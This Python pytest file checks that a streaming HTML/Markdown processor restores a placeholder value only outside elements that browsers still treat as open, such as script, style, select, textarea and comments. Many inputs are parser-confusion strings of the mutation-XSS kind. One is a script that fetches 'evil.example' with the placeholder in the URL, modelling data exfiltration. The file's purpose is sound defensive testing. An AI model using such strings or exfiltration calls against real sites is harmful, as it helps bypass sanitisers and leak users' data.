"""An element whose text is no running text ends where every browser sees it end: nothing before that is one's own."""

from __future__ import annotations

import pytest

from streaming.core.places import Place
from tests.streaming.test_restore import ADDRESS, P, cut, stored, whole

WITHIN = [
    # Comments, and what is dropped like one.
    '<script><!-- <script> </script> fetch("//evil.example/?q=" + "~") </script>',
    "<script><!--<script></script> --> ~</script>", "<SCRIPT><!-- <ScRiPt/</script> ~",
    "<select><option><!-- </select> --> ~", "<select><option><!-- </option></select> -->~",
    "<select><option><!-- > </select> --> ~", "<select><option><!--\n</select>\n--> ~",
    "<select><option><!-- a --!> <!-- </select> --> ~", "<datalist><option><!-- </datalist> --> ~",
    "<select><option><!x </select> ~", "<select><option><?x </select> ~", "<select><option></ </select> ~",
    "<select><option><//x </select> ~", "<select><option></</select> ~", "<select><option></1 </select>~",
    "<select><option><![CDATA[ </select> ]]> ~", "<svg><style><!-- </style> --> ~",
    "<svg><style><![CDATA[ </style> ]]> ~", "<svg><style><?x </style> ?> ~", "<svg><script><![CDATA[</script>]]> ~",
    # Attributes.
    '<select><option><b title="</select>"> ~', "<select><option><b title='</select>'> ~",
    "<select><option><b title=</select> ~", "<select><option><b title=</select > ~",
    '<select><option><b title="\n</select>"> ~', '<select></select/ title="> ~">', '<select></select x=">"> <option> ~',
    '<textarea></textarea x="> ~">', '<svg><style><x title="</style>"> ~',
    # Elements within, which are read otherwise or have to end first.
    "<select><script></select></script> ~</select>", '<select><option><script>"<select></select>"</script> ~',
    "<select><option><style></select></style> ~", "<select><option><title></select></title> ~",
    "<select><option><textarea></select></textarea> ~", "<select><option><iframe></select></iframe> ~",
    "<select><option><noembed></select></noembed> ~", "<select><option><noframes></select></noframes> ~",
    "<select><option><xmp></select></xmp> ~", "<select><option><noscript></select></noscript> ~",
    "<select><option><plaintext></select></plaintext> ~", "<select><option><svg><title></select></title> ~",
    "<select><option><svg><desc></select></desc> ~", "<select><option><math><mtext></select></mtext> ~",
    "<select><option><svg><foreignObject></select></foreignObject></svg> ~",
    "<select><option><object></select></object> ~", "<select><option><table><tr><td></select></table> ~",
    "<select><option><template></select></template> ~", "<datalist><option><div></datalist></div> ~",
    "<datalist><option><p></datalist></p> ~", "<datalist><select></datalist></select> ~",
    '<b title="<select>"><datalist><select></datalist></select> ~', "<datalist><script></datalist></script> ~",
    "<svg><style><desc><div></style></div></desc> ~", "<svg><style><title><div></style></div></title> ~",
    "<math><style><mi><div></style></div></mi> ~", "<svg><textarea><desc><div></textarea></div></desc> ~",
    "<!-- <script> --><svg><style><desc><div></script></style></div></desc> ~", "<svg><title><div></title></div> ~",
    "<svg></svg><svg><style><style></style> ~",
    # Elements of the same name, and of another.
    "<datalist><datalist></datalist> ~", "<svg><style><style></style> ~", "<textarea></form><title></title> ~",
    "<style></script> ~", "<style></ style> ~", "<plaintext></plaintext> ~",
    # What Markdown shows as text, or takes apart.
    "x <select><option>\\</select> ~", "x <textarea>\\</textarea> ~", "x <textarea>\\</textarea      > ~",
    "x <select><option></select\n\n> ~",
    "x <select><option></select\n> ~", "x <select><option></select x> ~", "x <textarea></textarea/> ~",
    "<option><select><!-- a\n\nb --> </select> ~", "> <option><select><!--\nb --> </select> ~",
    "x <select><option>[a](</select>) ~", 'x <select><option>[a](/b "</select>") ~',
    "x <datalist><option>\n\n</datalist> ~", '<div><img src="/a\n\nb"> ~ <b title="x">',
    "<div><img src='/a\r\n\r\nb'> ~ <b title='x'>",
    # Signs that are blanks for some and letters for browsers.
    "<img b=\v' src='/ > ~'>", "<img\vb=' src='/ > ~'>",
    # A line end of two signs is one.
    "[x](\r\nb ~)", "[x](a\r\n~)",
]  # fmt: skip


@pytest.mark.parametrize("text", WITHIN)
def test_within_an_element_that_only_seems_to_end_nothing_comes_back_wherever_it_is_cut(text: str) -> None:
    for before in ("", "Look: "):
        sent = (before + text).replace("~", P)
        assert whole(sent) == sent
        for at in range(len(sent) + 1):
            assert cut(sent, at) == sent
    assert stored(text.replace("~", P)) == text.replace("~", P)


OVER = [
    "<select><!-- a > b --><option>a</option></select> ~", "<script>x('<b>')</script> ~", "<select></select > ~",
    "<SELECT><option>a</Select> ~", "<style></script></style> ~", "<style><style></style> ~",
    "<textarea><!-- </textarea> ~", "<textarea><textarea></textarea> ~", "<title><textarea></textarea></title> ~",
    "<script>document.write('<script src=x><\\/script>')</script> ~", "<script>//<![CDATA[\nx()\n//]]></script> ~",
    "<script>\nif (a <!b) x();\n</script> ~", "<script><!-- a --></script> ~",
    "<select><?php foreach ($a as $k => $b): ?><option value='<?= $k ?>'></option><?php endforeach; ?></select> ~",
    "<select><script></select></script></select> ~", "<select><option><b>a</b><img src=x></option><hr></select> ~",
    "Use `<select>` in a `<form>`:\n```html\n<form>\n<select>\n<option>a</option>\n</select>\n</form>\n```\n~",
    "`<option>` in `<select>`:\n\n<select><option>a</option></select>\n\n~", "between `<select>` and `</select>`. ~",
    "<Select><MenuItem value={1}>One</MenuItem></Select> ~", "<select>\n\n<option>a\n\n</select>\n\n~",
    "<svg><title>a</title><style>b{}</style><path d=''/></svg><script>x('<tr><td>')</script> ~",
    "<svg/> <select><option>a<option>b</select> ~", "<math><mi>x</mi></math> <script>x('<div>')</script> ~",
    "<datalist id=a>\n<option value=a>\n<option value=b>\n</datalist> ~", "<noscript><img src=x></noscript> ~",
    "I love you </3 ~", "a <! b ~", "a <? b ~", "<!-- never over ~", '<b title="a\nb"> ~', "a\r\n[x](b)\r\n~",
]  # fmt: skip


@pytest.mark.parametrize("text", OVER)
def test_behind_an_element_that_is_over_the_value_comes_back(text: str) -> None:
    sent = text.replace("~", P)
    for at in range(len(sent) + 1):
        assert cut(sent, at) == text.replace("~", ADDRESS)
    assert stored(sent) == text.replace("~", ADDRESS)


def test_any_number_of_elements_in_each_other_takes_no_room() -> None:
    place = Place()
    place.read("<datalist>" * 1_000)
    assert len(place.state()["insides"]) < 20
    place.read("</datalist>" * 1_000)
    assert not place.running_text
